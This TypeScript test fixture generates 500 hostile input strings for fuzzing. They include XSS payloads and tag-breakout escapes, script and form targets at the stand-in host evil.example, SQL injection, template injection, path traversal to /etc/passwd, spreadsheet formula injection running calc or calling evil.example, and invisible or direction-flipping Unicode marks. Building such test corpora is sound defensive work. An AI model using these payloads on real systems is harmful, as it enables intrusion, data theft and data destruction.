/*
 * Texts that do harm where a text is taken for more: markup, script, templates, queries, formulas, or marks that turn, hide
 * or break what stands around them. Whatever runs sets `window.hostile`.
 */

const RUN = 'window.hostile=1';

const TAGS = [
  'img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'iframe srcdoc=x',
  'marquee', 'object data=x', 'select autofocus', 'style', 'link rel=stylesheet href=x', 'math', 'x-y tabindex=1', 'button autofocus', 'p style=animation-name:x',
]; // prettier-ignore
const HANDLERS = [
  'onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onstart',
  'onbeforetoggle', 'oncanplay',
]; // prettier-ignore

/** How a text gets out of where it stands: an attribute, an element, a comment, a script. */
const ESCAPES = [
  '', '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '" ', "' ", '\\"', '\\\\', '&quot;>',
  '<![CDATA[', '<!--', '%22%3E',
]; // prettier-ignore
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="https://evil.example/x.js"></sCrIpT>`,
  `<img src=https://evil.example/p.png>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<iframe src="javascript:${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>go</button></form>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{%25 print(1) %}`, `[[${RUN}]]`,
  `{{7*7}}`, `\${{7*7}}`, `@(7*7)`, `{b}: {c} ({d}%)`, `{a|styled}`, `{marker} {name|x}`, `%s %d %n %x`, `{0} {1}`, `$1 $& $\``,
  `\`${RUN}\``, `';${RUN}//`, `");${RUN}//`, `\\u003cscript\\u003e${RUN}`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#x3C;b&#62;`,
  `&amp;amp;`, `javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:x`, `//evil.example/x`, `https://evil.example/`,
]; // prettier-ignore

const QUERIES = [
  `'; DROP TABLE events; --`, `' OR '1'='1`, `" OR ""="`, `1; SELECT pg_sleep(9)`, `') UNION SELECT * FROM users --`, `%' AND 1=0 --`,
  `_%_%`, `[a-z`, `(a+)+$`, `.*`, `\\`, `'`, `"`, `;`, `--`, `/*`, `*/`, `$1`, `?`, `:name`, `NULL`, `null`, `undefined`, `NaN`, `true`,
  `-1`, `0`, `1e309`, `0x7f`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `[object Object]`, `{"a":[1,{"b":null}]}`, `[]`,
  `../../../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `C:\\Windows\\win.ini`, `a/b?c=d#e&f=g`, `%00`, `%zz`, `+ +`, `a&b=c`, `#`, `/`,
]; // prettier-ignore

const FORMULAS = [
  `=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/","x")`, `=IMPORTXML("https://evil.example/","//a")`, `+1+1`,
  `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `;=1+1`, `,=1+1,"`, `"=1+1"`, `'=1+1`, `%0A=1+1`, `|calc`,
]; // prettier-ignore

/** Marks that nobody sees, and that turn what follows. */
const MARKS = [
  '\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c', '\u200b', '\u200c', '\u200d',
  '\u2060', '\ufeff', '\u00ad', '\u034f', '\u180e', '\u3164', '\u115f', '\ufff9', '\ufffd', '\u0000', '\u0001', '\u0007', '\u0008', '\u001b[31m',
  '\u007f', '\u0085', '\u2028', '\u2029', '\u00a0', '\u3000', '\t', '\n', '\r\n', '\ue000', '\u{e0041}', '\u{1d165}',
]; // prettier-ignore

const SCRIPTS_OF_THE_WORLD = [
  'שלום עולם', 'مرحبا بالعالم', 'ﷺ﷽', '田中さんにあげて下さい', '안녕하세요', 'Ὀδυσσεύς', 'Привет', 'ไทยไทย', 'ཨོཾ་མ་ཎི་པདྨེ་ཧཱུྃ', 'नमस्ते', 'İıſßẞ', 'ǅǆǄ',
  'ﬀﬁﬂ', 'Ω≈ç√∫˜µ≤≥÷', '𝓗𝓮𝓵𝓵𝓸', '🅗🅔🅛🅛🅞', '👩‍👩‍👧‍👦 👨🏿‍🚀', '🏳️‍🌈🏴‍☠️🇺🇳', '1️⃣2️⃣', 'Ｆｕｌｌ', '‮⁦x⁩', 'a\u0308\u0308\u0308',
  `Z${'\u0351\u0363\u0352\u0310'.repeat(12)}algo${'\u0336\u0318\u0325'.repeat(12)}`, '\u0e01\u0e49\u0e49\u0e49'.repeat(20),
]; // prettier-ignore

const HUGE = [
  'W'.repeat(3000),
  'i'.repeat(3000),
  'wide word '.repeat(300).trim(),
  '<b>'.repeat(700),
  '🦊'.repeat(700),
  '\u202e'.repeat(500) + 'turned',
  'a\u0301'.repeat(900),
  '-'.repeat(3000),
  '{{'.repeat(900),
];

/** So many are made. */
export const HOSTILE_COUNT = 500;

/** Exactly 500 different texts, none with space around it. */
export function hostileStrings(): readonly string[] {
  const known = [
    ...QUERIES,
    ...FORMULAS,
    ...TEMPLATES,
    ...SCRIPTS_OF_THE_WORLD,
    ...MARKS.map((mark) => `ab${mark}cd gpj.exe`),
    ...HUGE,
    ...ESCAPES.flatMap((escape) => SCRIPTS.map((script) => `${escape}${script}`)),
  ];
  const handlers = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${RUN}>`));
  const all = [...new Set([...known, ...handlers].map((text) => text.trim()))];
  return all.slice(0, HOSTILE_COUNT);
}
